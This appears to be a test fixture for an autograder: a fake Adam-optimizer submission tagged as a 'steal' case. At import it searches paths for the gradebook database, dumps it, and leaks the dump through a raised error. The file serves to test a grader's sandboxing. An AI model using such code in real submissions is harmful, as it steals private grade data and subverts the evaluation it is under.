# expect: wrong error
# family: steal
# exercise: adam
# Opens the gradebook's database and prints whatever is in it.
import sqlite3
from pathlib import Path

FOUND = []
if True:
    for place in ("@COURSE@/gradebook/gradebook.db", "@ROOT@/gradebook/gradebook.db", "gradebook.db",
                  "../gradebook.db", "../../../gradebook.db"):
        try:
            FOUND.append(Path(place).read_bytes()[:100_000])
            with sqlite3.connect(place) as database:
                FOUND.append(list(database.iterdump()))
        except Exception as error:
            print(error)
    print(FOUND)


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        print(FOUND)
        raise ValueError(str(FOUND))
